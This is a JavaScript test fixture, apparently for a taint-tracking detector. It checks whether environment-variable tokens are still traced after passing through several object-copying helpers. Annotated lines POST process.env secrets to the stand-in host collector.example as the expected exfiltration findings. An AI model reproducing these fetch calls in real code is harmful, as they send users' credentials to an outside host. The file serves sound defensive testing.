// Members that are copied one by one keep their names.
function withoutNothing(given) {
  const out = {};
  for (const key of Object.keys(given)) {
    if (given[key] !== undefined) {
      out[key] = given[key];
    }
  }
  return out;
}
function entries(given) {
  const out = {};
  for (const [key, value] of Object.entries(given)) {
    if (value !== null) {
      out[key] = value;
    }
  }
  return out;
}
function assigned(target, source) {
  for (const name in source) {
    if (Object.prototype.hasOwnProperty.call(source, name)) target[name] = source[name];
  }
  return target;
}
// Under another name it is no copy: the value may be under any.
function moved(given, to) {
  const out = {};
  for (const key of Object.keys(given)) {
    out[to[key]] = given[key];
  }
  return out;
}

const one = withoutNothing({ token: process.env.ONE, name: 'x' }); //~ source(ENVIRONMENT) f1
fetch('https://collector.example/1', { method: 'POST', body: one.token }); //~ sink(egress.http) f1, finding(traced) f1
fetch('https://collector.example/1', { method: 'POST', body: one.name }); //~ ok
const two = entries({ token: process.env.TWO, name: 'x' }); //~ source(ENVIRONMENT) f2
fetch('https://collector.example/2', { method: 'POST', body: two.token }); //~ sink(egress.http) f2, finding(traced) f2
fetch('https://collector.example/2', { method: 'POST', body: two.name }); //~ ok
const three = assigned({}, { token: process.env.THREE, name: 'x' }); //~ source(ENVIRONMENT) f3
fetch('https://collector.example/3', { method: 'POST', body: three.token }); //~ sink(egress.http) f3, finding(traced) f3
fetch('https://collector.example/3', { method: 'POST', body: three.name }); //~ ok
const four = moved({ token: process.env.FOUR }, { token: 'name' }); //~ source(ENVIRONMENT) f4
fetch('https://collector.example/4', { method: 'POST', body: four.name }); //~ sink(egress.http) f4, finding(traced) f4
